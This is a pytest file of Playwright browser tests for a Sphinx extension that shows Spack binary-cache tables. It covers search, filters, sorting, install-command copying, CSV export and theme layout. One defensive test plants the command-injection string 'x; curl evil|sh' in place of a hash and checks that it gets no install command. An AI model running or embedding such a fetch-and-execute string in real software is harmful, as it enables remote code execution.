"""The HTML experience in a real browser: headless Chromium from the system (Debian's
``chromium``; never a downloaded browser), driven by Playwright.

Skipped when Chromium or Playwright is missing, except under CI (``CI`` set), where
``.ci/run`` installs them. Screenshots of each theme, light and dark, at 1280 and 1440
pixels, are saved to tests/artifacts/ for a person to look at.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import os
import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from sphinx_spackcache.data.query import FILTER_FIELDS
from sphinx_spackcache.writers.assets import SCRIPTS_DIR, cpu_data_script

from . import records as expected
from .conftest import DOCS, RECORDS, Build, warnings_of
from .test_also_in import APRIL_13, APRIL_20, SHARED_CMAKE
from .test_filter_rules import RULES, RUN_RULES
from .test_targets import archspec_runs, expected_count

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
try:
    from playwright.sync_api import Browser, Page, sync_playwright

    HAVE_PLAYWRIGHT = True
except ImportError:  # pragma: no cover - depends on the environment
    HAVE_PLAYWRIGHT = False

ARTIFACTS = Path(__file__).parent / "artifacts"
TAG = "develop-2025-04-20"
THEMES = ("alabaster", "furo", "sphinx_rtd_theme", "pydata_sphinx_theme")
WIDTHS = (1280, 1440)
ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.skipif(
        (CHROMIUM is None or not HAVE_PLAYWRIGHT) and not os.environ.get("CI"),
        reason="needs Chromium and Playwright (installed by .ci/run)",
    ),
]


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    assert CHROMIUM is not None, "CI must install chromium"
    assert HAVE_PLAYWRIGHT, "CI must install playwright"
    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGS)
        yield chromium
        chromium.close()


class Watched:
    """A page that records console errors and every URL it requests."""

    def __init__(self, browser: Browser, **context: Any) -> None:
        self.errors: list[str] = []
        self.requests: list[str] = []
        context.setdefault("viewport", {"width": 1100, "height": 900})
        self.context = browser.new_context(**context)
        self.page: Page = self.context.new_page()
        self.page.on("console", self._console)
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))
        self.page.on("request", lambda request: self.requests.append(request.url))

    def _console(self, message: Any) -> None:
        # pydata-sphinx-theme itself logs "Got invalid theme mode" on a first visit; only
        # errors from our script, or from no script at all, count here (uncaught
        # exceptions from any script always count, via "pageerror")
        source = message.location.get("url", "")
        if message.type == "error" and ("spackcache" in source or not source):
            self.errors.append(f"{source}: {message.text}")

    def close(self) -> None:
        self.context.close()
        assert self.errors == []
        assert [url for url in self.requests if not url.startswith("file://")] == []


def site(build: Build, theme: str = "alabaster") -> Path:
    app = build("browser", "html", conf={"html_theme": theme})
    assert warnings_of(app) == []
    return app.outdir


def badge(page: Page, column: str, value: str) -> Any:
    """The first badge reading exactly *value* in *column*."""
    cells = page.locator(f"tbody tr:not([hidden]) td.spackcache-{column} .spackcache-filter")
    return cells.filter(has_text=re.compile(rf"^{re.escape(value)}$")).first


def rows(page: Page, table: str = "table.spackcache-specs") -> int:
    return page.locator(f"{table} tbody tr:not([hidden]):not(.spackcache-empty)").count()


# -- search, sort, filters and the URL -------------------------------------------------


def test_search_sort_filter_and_url_state(build: Build, browser: Browser) -> None:
    out = site(build)
    cmake = expected.specs(TAG, "cmake")
    watched = Watched(browser)
    page = watched.page
    page.goto((out / "cmake.html").as_uri())
    # the controls come just before what they filter: the line of what rows share, then
    # the table
    search = page.locator("div.spackcache-controls input[type=search]")
    assert search.count() == 1
    assert page.evaluate(
        "() => { const c = document.querySelector('.spackcache-controls').nextElementSibling;"
        " return c.matches('p.spackcache-shared') &&"
        " c.nextElementSibling.querySelector('table.spackcache-specs') !== null }"
    )
    assert rows(page) == len(cmake) == 36

    # search: every word must appear somewhere in the row (here "aarch64" also matches
    # the stack radiuss-aws-aarch64)
    search.fill("amzn2 aarch64")

    def row_text(s: dict[str, Any]) -> str:
        fields = [s["hash"], s["compiler"], s["os"], s["platform"], s["target"]]
        return " ".join(fields + s["versions"] + s["variants"] + s["stacks"])

    wanted = [s for s in cmake if "amzn2" in row_text(s) and "aarch64" in row_text(s)]
    assert 0 < rows(page) == len(wanted)
    assert "q=amzn2+aarch64" in page.url
    search.fill("")
    assert rows(page) == 36

    # sort by compiler, then the reverse, then the original order again
    first_hashes = page.locator("table.spackcache-specs tbody tr td.spackcache-hash code")
    original = first_hashes.all_inner_texts()
    header = page.locator("table.spackcache-specs th.spackcache-compiler")
    header.click()
    shown = page.locator("table.spackcache-specs tbody tr:not([hidden]) td.spackcache-compiler")
    assert header.get_attribute("aria-sort") == "ascending"
    assert shown.all_inner_texts()[0].strip() == "apple-clang@16.0.0"
    header.click()
    assert header.get_attribute("aria-sort") == "descending"
    assert shown.all_inner_texts()[0].strip().startswith("intel-oneapi-compilers@2025.1.0")
    header.click()
    assert header.get_attribute("aria-sort") == "none"
    assert first_hashes.all_inner_texts() == original

    # a badge in the stacks column keeps the rows in that stack, only that column counts
    badge(page, "stacks", "e4s").click()
    in_e4s = [s for s in cmake if "e4s" in s["stacks"]]
    assert rows(page) == len(in_e4s) == 4
    assert "stack=e4s" in page.url
    chip = page.locator(".spackcache-chip")
    assert chip.inner_text().startswith("stack: e4s")
    # and a second filter in another column narrows further
    badge(page, "compiler", "gcc@11.4.0").click()
    both = [s for s in in_e4s if s["compiler"] == "gcc@11.4.0"]
    assert rows(page) == len(both)
    assert "compiler=gcc%4011.4.0" in page.url or "compiler=gcc@11.4.0" in page.url
    page.locator("button.spackcache-clear").click()
    assert rows(page) == 36
    assert "stack=" not in page.url

    # a stack badge of the summary filters the table below it
    page.locator("dl.spackcache-summary .spackcache-stack", has_text="radiuss\xa0(").click()
    assert rows(page) == sum(1 for s in cmake if "radiuss" in s["stacks"])
    assert "stack=radiuss" in page.url
    watched.close()


def test_url_filters_follow_the_directives_filters(build: Build, browser: Browser) -> None:
    """Globs, commas for alternatives, fields the table does not show (said once above
    it), a field no row has, an empty result."""
    out = site(build)
    cmake = expected.specs(TAG, "cmake")
    py = expected.specs(TAG, "py-packaging")
    watched = Watched(browser)
    page = watched.page

    def visit(name: str, query: str) -> None:
        page.goto((out / name).as_uri() + query)

    visit("cmake.html", "?stack=e4s*")
    assert rows(page) == sum(1 for s in cmake if any(st.startswith("e4s") for st in s["stacks"]))
    visit("cmake.html", "?os=amzn2,rhel8")
    assert rows(page) == sum(1 for s in cmake if s["os"] in ("amzn2", "rhel8"))
    visit("cmake.html", "?compiler=gcc@=11.4.0")  # Spack's spelling, as the option takes it
    assert rows(page) == sum(1 for s in cmake if s["compiler"] == "gcc@11.4.0")

    # py-packaging's compiler is said once above the table, not in a column: filters on
    # it still apply, to every row alike
    assert {s["compiler"] for s in py} == {"none"}
    visit("py-packaging.html", "?compiler=none")
    assert rows(page) == 27
    visit("py-packaging.html", "?compiler=gcc*")
    assert rows(page) == 0
    empty = page.locator("tr.spackcache-empty")
    assert empty.is_visible()
    assert empty.inner_text().startswith("No spec matches.")
    empty.locator("button").click()
    assert rows(page) == 27
    assert "compiler=" not in page.url

    # a package listing has no variants: the filter cannot apply, and says so
    visit("index.html", "?variant=%2Bshared")
    assert rows(page, "table.spackcache-packages") == len(expected.packages(TAG))
    chip = page.locator(".spackcache-chip")
    assert "spackcache-inactive" in (chip.get_attribute("class") or "")
    assert (chip.get_attribute("title") or "").startswith("Not applied: this table has no")
    watched.close()


#: Replaces RegExp, for one change of the filters, by one that rejects every glob's
#: expression as a browser rejected [z-a] once ("Range out of order").
REJECTING_REGEXP = """param => {
  const Real = window.RegExp;
  window.RegExp = function (source, flags) {
    if (String(source).startsWith("^(?:")) {
      throw new SyntaxError("Invalid regular expression: Range out of order in character class");
    }
    return new Real(source, flags);
  };
  try { window.spackcache.state.setFilter(param, "e4s"); } finally { window.RegExp = Real; }
}"""


def test_odd_globs_in_the_address_leave_the_page_working(build: Build, browser: Browser) -> None:
    """A glob that matches nothing (a range that runs backwards), one whose expression the
    browser rejects, ranges beyond U+FFFF: no script error, and search and the other
    filters go on working (the cases of tests/filter_rules.json hold the rules)."""
    out = site(build)
    cmake = expected.specs(TAG, "cmake")
    in_e4s = sum(1 for s in cmake if "e4s" in s["stacks"])
    watched = Watched(browser)
    page = watched.page
    search = page.locator("div.spackcache-controls input[type=search]")

    page.goto((out / "cmake.html").as_uri() + "?stack=[z-a]")
    assert rows(page) == 0
    assert page.locator("tr.spackcache-empty").is_visible()
    search.fill("amzn2")  # search still reacts: still nothing, with the filter
    assert rows(page) == 0
    assert "q=amzn2" in page.url
    page.locator("tr.spackcache-empty button").click()  # and the filter can be cleared
    assert rows(page) == 36
    assert "stack=" not in page.url

    # [z-ae] is [e]: the backwards range is left out, the rest of the set stays
    page.goto((out / "cmake.html").as_uri() + "?stack=[z-ae]4s&os=[%F0%9F%98%80-%F0%9F%98%82]*,*")
    assert rows(page) == in_e4s == 4

    # a glob the browser cannot turn into an expression matches nothing, without a throw
    page.goto((out / "cmake.html").as_uri())
    page.evaluate(REJECTING_REGEXP, "stack")
    assert rows(page) == 0
    assert "stack=e4s" in page.url
    search.fill("e4s")  # the next change works with the browser's own RegExp again
    assert rows(page) == in_e4s
    watched.close()  # asserts no script error


def test_listing_links_carry_the_filters(build: Build, browser: Browser) -> None:
    out = site(build)
    watched = Watched(browser)
    page = watched.page
    page.goto((out / "index.html").as_uri() + "?stack=e4s")
    link = page.locator("table.spackcache-packages td.spackcache-package a", has_text="cmake")
    href = link.get_attribute("href") or ""
    assert href.startswith("cmake.html?stack=e4s#cache-package-cmake-")
    link.click()
    page.wait_for_url("**/cmake.html?stack=e4s#*")
    page.wait_for_selector(".spackcache-chip")
    assert rows(page) == sum(1 for s in expected.specs(TAG, "cmake") if "e4s" in s["stacks"])
    watched.close()


def test_search_and_badges_agree_on_shared_values(build: Build, browser: Browser) -> None:
    """Issue 25: the values of the line of what every row shares are on every row, for
    the search as for a click on their badge. On boost (64 specs, all linux, all in the
    stack root, all ~numpy and build_system=generic) searching for one of them kept 0 or
    3 rows (the stack names with "linux" in them) while its badge kept all 64."""
    out = site(build)
    boost = expected.specs(TAG, "boost")

    def text(s: dict[str, Any]) -> str:
        fields = [s["hash"], s["compiler"], s["os"], s["platform"], s["target"]]
        return " ".join(fields + s["versions"] + s["variants"] + s["stacks"]).lower()

    watched = Watched(browser)
    page = watched.page
    page.goto((out / "boost.html").as_uri() + "?rows=0")
    assert rows(page) == len(boost) == 64
    search = page.locator("div.spackcache-controls input[type=search]")
    shared = "p.spackcache-shared .spackcache-filter"
    cases: list[tuple[str, str, str, Callable[[dict[str, Any]], bool]]] = [
        # what to search for, the badge to click, where, and the specs it keeps
        ("root", "root", shared, lambda s: "root" in s["stacks"]),
        ("numpy", "~numpy", shared, lambda s: "~numpy" in s["variants"]),
        ("build_system=generic", "build_system=generic", shared, lambda s: True),
        ("linux", "linux", shared, lambda s: s["platform"] == "linux"),
        # a value some rows have: the same rows either way
        (
            "e4s-oneapi",
            "e4s-oneapi",
            "td.spackcache-stacks .spackcache-filter",
            lambda s: "e4s-oneapi" in s["stacks"],
        ),
    ]
    for words, value, where, has in cases:
        found = [s for s in boost if all(w in text(s) for w in words.lower().split())]
        search.fill(words)
        assert rows(page) == len(found), words
        search.fill("")
        assert rows(page) == 64
        exact = re.compile(rf"^{re.escape(value)}$")
        page.locator(where).filter(has_text=exact).first.click()
        kept = [s for s in boost if has(s)]
        assert rows(page) == len(kept) == len(found), value
        page.locator("button.spackcache-clear").click()
        assert rows(page) == 64
    assert [len([s for s in boost if "e4s-oneapi" in s["stacks"]])] == [10]
    watched.close()


def test_pages_and_page_sizes(build: Build, browser: Browser) -> None:
    out = site(build)
    boost = expected.specs(TAG, "boost")
    assert len(boost) == 64
    watched = Watched(browser)
    page = watched.page
    page.goto((out / "boost.html").as_uri())
    assert rows(page) == 50
    assert "64 rows, 1\u201350 shown" in page.inner_text(".spackcache-count")
    # (the pager above the table; tests/test_browser_controls.py has the one below)
    page.locator(".spackcache-controls button.spackcache-next").click()
    assert rows(page) == 14
    # disabled for the mouse, still focusable (aria-disabled)
    assert (
        page.locator(".spackcache-controls button.spackcache-next").get_attribute("aria-disabled")
        == "true"
    )
    size = page.locator(".spackcache-controls select.spackcache-size")
    size.select_option("25")
    assert rows(page) == 25
    assert "rows=25" in page.url
    size.select_option("0")  # all
    assert rows(page) == 64
    # the coverage matrix on the same page is not an interactive table
    assert page.locator("table.spackcache-coverage").count() == 1
    assert page.locator(".spackcache-controls").count() == 1
    watched.close()


def test_index_badges_filter_packages(build: Build, browser: Browser) -> None:
    out = site(build)
    watched = Watched(browser)
    page = watched.page
    page.goto((out / "index.html").as_uri())
    table = "table.spackcache-packages"
    assert rows(page, table) == len(expected.packages(TAG))
    page.locator(
        f"{table} td.spackcache-targets .spackcache-filter", has_text="neoverse_v1"
    ).first.click()
    wanted = [
        p
        for p in expected.packages(TAG)
        if any(s["target"] == "neoverse_v1" for s in expected.specs(TAG, p))
    ]
    assert rows(page, table) == len(wanted)
    assert "target=neoverse_v1" in page.url
    watched.close()


#: JavaScript: how many characters of a hash cell's text are on screen (inside the box
#: that clips it), the ellipsis after them, and the hash in the page.
SHOWN_HASH = """e => {
  const text = e.querySelector('span.pre').firstChild;
  const clip = e.querySelector('span.pre').getBoundingClientRect();
  const range = document.createRange();
  let shown = 0;
  for (let i = 0; i < text.length; i++) {
    range.setStart(text, i); range.setEnd(text, i + 1);
    const r = range.getBoundingClientRect();
    if (r.left >= clip.left - 0.5 && r.right <= clip.right + 0.5) shown++;
  }
  return [shown, getComputedStyle(e, '::after').content, e.textContent];
}"""


@pytest.mark.parametrize("theme", THEMES)
def test_hashes_are_short_on_screen_whole_in_the_page(
    build: Build, browser: Browser, theme: str
) -> None:
    """Seven characters in every theme, as Spack prints a hash (issue 24: alabaster
    showed eight, sphinx-rtd-theme seven). cmake's spec 5sperlj6rzuakthap4on7ar5bjlxf2xc
    (tests/records, develop-2025-04-20) shows "5sperlj" and an ellipsis."""
    out = site(build, theme)
    watched = Watched(browser)
    watched.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = watched.page
    page.goto((out / "cmake.html").as_uri())
    code = page.locator("table.spackcache-specs td.spackcache-hash code").filter(
        has_text="5sperlj6rzuakthap4on7ar5bjlxf2xc"
    )
    shown, after, full = code.evaluate(SHOWN_HASH)
    assert (shown, after, full) == (7, '"\u2026"', "5sperlj6rzuakthap4on7ar5bjlxf2xc")
    # the copy button copies the whole hash
    code.locator("xpath=ancestor::td").locator("button.spackcache-copy").first.click()
    assert page.evaluate("() => navigator.clipboard.readText()") == full
    watched.close()


def test_my_cpu_keeps_the_binaries_that_run_on_it(build: Build, browser: Browser) -> None:
    """The counts come from the records and archspec's own comparison (tests/test_targets)."""
    out = site(build)
    watched = Watched(browser)
    page = watched.page
    page.goto((out / "cmake.html").as_uri())
    choice = page.locator(".spackcache-cpu select")
    assert choice.count() == 1
    groups = choice.locator("optgroup").evaluate_all("gs => gs.map(g => g.label)")
    assert groups == ["x86_64 levels", "Intel", "AMD", "ARM", "Power", "RISC-V"]
    for cpu in ("zen3", "neoverse_v2", "haswell", "x86_64_v4"):
        choice.select_option(cpu)
        assert rows(page) == expected_count(TAG, "cmake", (cpu,)), cpu
        assert f"runs-on={cpu}" in page.url
    assert page.locator(".spackcache-chip").inner_text().startswith("CPU: x86_64_v4")
    choice.select_option("")
    assert rows(page) == len(expected.specs(TAG, "cmake"))
    assert "runs-on" not in page.url
    # the state comes back from the URL, with the directive's rule (comma: either CPU)
    page.goto((out / "cmake.html").as_uri() + "?runs-on=zen3,neoverse_v2")
    assert rows(page) == expected_count(TAG, "cmake", ("zen3", "neoverse_v2"))
    page.goto((out / "cmake.html").as_uri() + "?runs-on=neoverse_v2")
    assert choice.input_value() == "neoverse_v2"
    assert rows(page) == expected_count(TAG, "cmake", ("neoverse_v2",))
    watched.close()


def test_rows_copy_their_install_command_and_save_as_csv(
    build: Build, browser: Browser, tmp_path: Path
) -> None:
    out = site(build)
    watched = Watched(browser, accept_downloads=True)
    watched.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = watched.page
    page.goto((out / "cmake.html").as_uri() + "?runs-on=zen3")
    first = page.locator("table.spackcache-specs tbody tr:not([hidden])").first
    full = first.locator("td.spackcache-hash code").inner_text()
    first.locator("button.spackcache-copy-install").click()
    command = page.evaluate("() => navigator.clipboard.readText()")
    assert command == f"spack install --use-buildcache only /{full}"
    # the CSV holds the rows the filters keep, all of them (not only this page's)
    with page.expect_download() as download_info:
        page.locator("button.spackcache-download").first.click()
    path = tmp_path / "rows.csv"
    download_info.value.save_as(path)
    lines = list(csv.reader(io.StringIO(path.read_text("utf-8"))))
    assert lines[0][0] == "hash"
    # the headings the exported files use
    assert {"versions", "compiler", "os", "platform", "target", "variants", "stacks"} <= set(
        lines[0]
    )
    wanted = {s["hash"] for s in expected.specs(TAG, "cmake") if archspec_runs(s["target"], "zen3")}
    assert {line[0] for line in lines[1:]} == wanted
    target = lines[0].index("target")
    assert {line[target] for line in lines[1:]} == {"x86_64_v3"}
    watched.close()


def test_install_commands_of_an_older_spack_and_hostile_input(
    build: Build, browser: Browser, tmp_path: Path
) -> None:
    """A v0.18.1 snapshot of unsigned binaries (a copy of v0.23.1's cmake under that tag)
    gets Spack 0.18's spelling; a hash that is not a Spack hash gets no install command;
    an address naming a CPU that is a property of every JavaScript object breaks nothing."""
    records = tmp_path / "records"
    shutil.copytree(RECORDS, records)
    old = records / "v0.18.1" / "cmake"
    old.parent.mkdir()
    shutil.move(records / "v0.23.1" / "cmake", old)
    record = old / "specs.md"
    record.write_text(record.read_text("utf-8").replace("v0.23.1", "v0.18.1"), "utf-8")
    odd = records / TAG / "py-packaging" / "specs.md"
    odd.write_text(
        odd.read_text("utf-8").replace("26rmhpljzmc7qjygxviehb7lrvsswwiq", "x; curl evil|sh"),
        "utf-8",
    )
    app = build("install", "html", conf={"spackcache_path": str(records)})
    (app.srcdir / "old.rst").write_text(
        ":orphan:\n\nOld\n===\n\n.. cache-package:: cmake\n   :tag: v0.18.1\n   :unsigned:\n",
        "utf-8",
    )
    app = build("install", "html", conf={"spackcache_path": str(records)})
    watched = Watched(browser)
    watched.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = watched.page
    page.goto((app.outdir / "old.html").as_uri())
    first = page.locator("table.spackcache-specs tbody tr").first
    full = first.locator("td.spackcache-hash code").inner_text()
    first.locator("button.spackcache-copy-install").click()
    command = page.evaluate("() => navigator.clipboard.readText()")
    assert command == f"spack install --cache-only --no-check-signature /{full}"

    page.goto((app.outdir / "index.html").as_uri())
    cells = page.locator("table.spackcache-specs td.spackcache-hash")
    odd_cell = cells.filter(has_text="curl evil")
    assert odd_cell.count() == 1
    assert odd_cell.locator("button.spackcache-copy").count() == 1  # the hash only
    assert odd_cell.locator("button.spackcache-copy-install").count() == 0
    assert cells.locator("button.spackcache-copy-install").count() == 26

    for name in ("constructor", "__proto__", "toString"):
        page.goto((app.outdir / "index.html").as_uri() + f"?runs-on={name}")
        assert rows(page) == 0
        assert page.locator(".spackcache-cpu select").first.input_value() == name
    watched.close()  # asserts no script error


@pytest.mark.skipif(
    importlib.util.find_spec("sphinx_copybutton") is None,
    reason="needs sphinx-copybutton (not yet a test dependency)",
)
@pytest.mark.parametrize(
    "extensions",
    [["sphinx_spackcache", "sphinx_copybutton"], ["sphinx_copybutton", "sphinx_spackcache"]],
)
def test_the_copy_button_copies_commands_without_prompts(
    build: Build, browser: Browser, extensions: list[str]
) -> None:
    """With sphinx-copybutton loaded, its button copies the install commands without the
    ``$`` prompts (sphinx_spackcache/site/copybutton.py adds ``.gp`` to
    ``copybutton_exclude``, whose default in 0.5.2 is ``.linenos``): pasted in a shell,
    they run. In either order of the extensions."""
    conf = {"extensions": extensions}
    app = build("install", "html", conf=conf)
    assert ".gp" in app.config.copybutton_exclude
    watched = Watched(browser)
    watched.context.grant_permissions(["clipboard-read", "clipboard-write"])
    page = watched.page
    page.goto((app.outdir / "index.html").as_uri())
    block = page.locator("div.spackcache-commands").nth(1)  # cmake of v0.23.1
    block.hover()
    block.locator("button.copybtn").click()
    copied = page.evaluate("() => navigator.clipboard.readText()")
    assert copied.rstrip("\n") == (
        "spack mirror add --signed v0.23.1 https://binaries.spack.io/v0.23.1\n"
        "spack buildcache keys --install --trust\n"
        "spack install --use-buildcache only cmake"
    )
    watched.close()


def test_without_javascript_the_whole_table_is_there(build: Build, browser: Browser) -> None:
    out = site(build)
    watched = Watched(browser, java_script_enabled=False)
    page = watched.page
    page.goto((out / "boost.html").as_uri() + "?stack=e4s")
    assert page.locator("table.spackcache-specs tbody tr").count() == 64
    assert rows(page) == 64
    assert page.locator(".spackcache-controls").count() == 0
    # "N more" opens without a script
    more = page.locator("table.spackcache-specs details.spackcache-more").first
    hidden = more.locator(".sd-badge").first
    assert not hidden.is_visible()
    more.locator("summary").click()
    assert hidden.is_visible()
    watched.close()


# -- the filter rules: the same as the options' --------------------------------------------


def test_the_page_filters_by_the_rules_of_the_options(browser: Browser) -> None:
    """The cases tests/test_filter_rules.py runs through data/query.py, run through the
    page's script; and the script takes the filters the directives take, by their names."""
    watched = Watched(browser)
    page = watched.page
    page.set_content("<!DOCTYPE html><html><head></head><body></body></html>")
    page.add_script_tag(content=cpu_data_script().decode())
    for script in ("filters.js", "state.js"):
        page.add_script_tag(path=SCRIPTS_DIR / script)
    assert page.evaluate(RUN_RULES, RULES) == []
    names = page.evaluate("() => Object.keys(window.spackcache.state.NAMES)")
    assert sorted(names) == sorted(FILTER_FIELDS)
    watched.close()


# -- real themes, real widths --------------------------------------------------------------

#: What each page of tests/roots/test-fit is checked for.
FIT_PAGES = {
    "py-packaging": "table.spackcache-specs",
    "cmake": "table.spackcache-specs",
    "boost": "table.spackcache-specs",
    "listing": "table.spackcache-packages",
    "matrix": "table.spackcache-coverage",
}

#: JavaScript: the layout facts of one table (see test_tables_fit_every_theme).
MEASURE = """table => {
  // the boxes that may scroll the table sideways, up to the extension's output (a theme
  // may let its whole article scroll too: that is the page, not a second table scroller)
  const scrollers = [];
  for (let e = table.parentElement; e; e = e.parentElement) {
    const overflow = getComputedStyle(e).overflowX;
    if (overflow === 'auto' || overflow === 'scroll') scrollers.push(e);
    if (e.classList.contains('spackcache')) break;
  }
  const box = scrollers[0];
  // lines of badges in a cell: tops more than half a badge apart
  const lines = cell => [...cell.querySelectorAll('.sd-badge, summary')]
    .filter(b => b.checkVisibility()).map(b => b.getBoundingClientRect())
    .sort((a, b) => a.top - b.top)
    .reduce((n, r, i, all) => n + (i === 0 || r.top - all[i - 1].top > r.height / 2 ? 1 : 0), 0);
  const rows = [...table.tBodies[0].rows].filter(r => !r.hidden && r.cells.length > 1);
  const last = table.tHead.rows[0].cells[table.tHead.rows[0].cells.length - 1];
  const first = rows.length ? rows[0].cells[0] : null;
  return {
    scrollers: scrollers.length,
    scrolling: scrollers.filter(e => e.scrollWidth > e.clientWidth + 1).length,
    width: Math.round(table.getBoundingClientRect().width),
    column: box ? box.clientWidth : null,
    stackLines: Math.max(0, ...rows.map(r => r.querySelector('td.spackcache-stacks'))
      .filter(Boolean).map(lines)),
    lastVisible: box ? last.getBoundingClientRect().right <= box.getBoundingClientRect().right + 1
      : true,
    sticky: first ? getComputedStyle(first).position : null,
    rowHeights: rows.map(r => Math.round(r.getBoundingClientRect().height)),
  };
}"""

#: JavaScript: WCAG contrast of every visible badge of the extension, against what is
#: behind it; for filled stack badges also of the badge against the page.
CONTRAST = """() => {
  const rgb = c => (c.match(/[\\d.]+/g) || []).map(Number);
  const lum = c => { const v = rgb(c).slice(0, 3).map(x => x / 255)
    .map(x => x <= 0.04045 ? x / 12.92 : ((x + 0.055) / 1.055) ** 2.4);
    return 0.2126 * v[0] + 0.7152 * v[1] + 0.0722 * v[2]; };
  const ratio = (a, b) => { const [h, l] = [lum(a), lum(b)].sort((x, y) => y - x);
    return (h + 0.05) / (l + 0.05); };
  const opaque = c => { const v = rgb(c); return v.length === 3 || v[3] === 1; };
  const behind = e => { for (let p = e.parentElement; p; p = p.parentElement) {
      const c = getComputedStyle(p).backgroundColor; if (opaque(c)) return c; }
    return 'rgb(255, 255, 255)'; };
  const results = [];
  for (const b of document.querySelectorAll('.spackcache .sd-badge')) {
    if (!b.checkVisibility()) continue;
    const style = getComputedStyle(b);
    const own = opaque(style.backgroundColor) ? style.backgroundColor : null;
    const page = behind(b);
    results.push({text: b.textContent.trim(), stack: b.classList.contains('spackcache-stack'),
      text_contrast: ratio(style.color, own || page),
      badge_contrast: own ? ratio(own, page) : null});
  }
  return results;
}"""


#: JavaScript: the text colour of the first stack badge, if there is one.
STACK_TEXT = """() => {
  const badge = document.querySelector('.spackcache .sd-badge.spackcache-stack');
  return badge ? getComputedStyle(badge).color : null;
}"""

#: The themes with a dark mode, which follows the system's colour scheme by default.
DARK_THEMES = ("furo", "pydata_sphinx_theme")


@pytest.mark.parametrize("theme", THEMES)
def test_tables_fit_every_theme(build: Build, browser: Browser, theme: str) -> None:
    """In each theme, light and dark, at 1280 and 1440 pixels: the spec tables of
    py-packaging, cmake v0.23.1 and boost (64 specs) and a package listing need no
    sideways scrolling; there is one scroll container, whose first column stays in view;
    a spec's stacks take at most two lines; the snapshot's coverage matrix shows its
    totals at 1440 pixels; every badge's text has 4.5:1 contrast, and every stack badge
    3:1 against the page; stack badges take the dark palette in dark mode, only there."""
    app = build("fit", "html", conf={"html_theme": theme, "spackcache_path": str(DOCS / "_cache")})
    assert warnings_of(app) == []
    ARTIFACTS.mkdir(exist_ok=True)
    for scheme in ("light", "dark"):
        for width in WIDTHS:
            watched = Watched(
                browser, color_scheme=scheme, viewport={"width": width, "height": 1000}
            )
            page = watched.page
            for name, selector in FIT_PAGES.items():
                page.goto((app.outdir / f"{name}.html").as_uri())
                where = f"{theme} {scheme} {width} {name}"
                page.screenshot(path=str(ARTIFACTS / f"{theme}-{scheme}-{width}-{name}.png"))
                facts = page.locator(selector).first.evaluate(MEASURE)
                assert page.evaluate(
                    "() => document.documentElement.scrollWidth <= window.innerWidth + 1"
                ), f"{where}: the page overflows sideways"
                assert facts["scrollers"] == 1, f"{where}: {facts['scrollers']} scroll boxes"
                assert facts["sticky"] == "sticky", where
                if name != "matrix":
                    assert facts["scrolling"] == 0, f"{where}: scrolls sideways ({facts})"
                if selector == "table.spackcache-specs":
                    assert facts["stackLines"] <= 2, f"{where}: stacks take {facts}"
                elif width == 1440:
                    assert facts["lastVisible"], f"{where}: totals out of view ({facts})"
                # the stack badges take the dark palette (near-black text) on dark pages only
                stack_text = page.evaluate(STACK_TEXT)
                if stack_text is not None:
                    dark = scheme == "dark" and theme in DARK_THEMES
                    assert stack_text == ("rgb(17, 17, 17)" if dark else "rgb(255, 255, 255)"), (
                        where
                    )
                for found in page.evaluate(CONTRAST):
                    assert found["text_contrast"] >= 4.5, f"{where}: {found}"
                    if found["stack"]:
                        assert found["badge_contrast"] >= 3.0, f"{where}: {found}"
            watched.close()


# -- cache-package :also-in: ---------------------------------------------------------


def test_the_also_in_column_keeps_search_filters_and_sorting(
    build: Build, browser: Browser
) -> None:
    """The column of the other snapshots that hold a binary (tests/test_also_in.py):
    the search finds them, badges still filter, and the column sorts."""
    app = build("also-in", "html")
    assert warnings_of(app) == []
    cmake = expected.specs(APRIL_20, "cmake")
    watched = Watched(browser)
    page = watched.page
    page.goto((app.outdir / "cmake.html").as_uri())
    assert rows(page) == 36
    # the search finds the snapshots a binary is also in
    search = page.locator("div.spackcache-controls input[type=search]")
    search.fill(APRIL_13)
    assert rows(page) == len(SHARED_CMAKE)
    # a badge filter narrows them further (counted in the records with PyYAML)
    badge(page, "stacks", "e4s").click()
    wanted = [s for s in cmake if "e4s" in s["stacks"] and s["hash"] in SHARED_CMAKE]
    assert 0 < rows(page) == len(wanted)
    page.locator("button.spackcache-clear").click()
    search.fill("")
    assert rows(page) == 36
    # the column sorts: descending, the rows with a name come first
    header = page.locator("table.spackcache-specs th.spackcache-also-in")
    header.click()
    header.click()
    assert header.get_attribute("aria-sort") == "descending"
    shown = page.locator("table.spackcache-specs tbody tr:not([hidden]) td.spackcache-also-in")
    texts = [text.strip() for text in shown.all_inner_texts()]
    assert texts[:3] == [APRIL_13] * 3
    assert set(texts[3:]) == {""}
    watched.close()
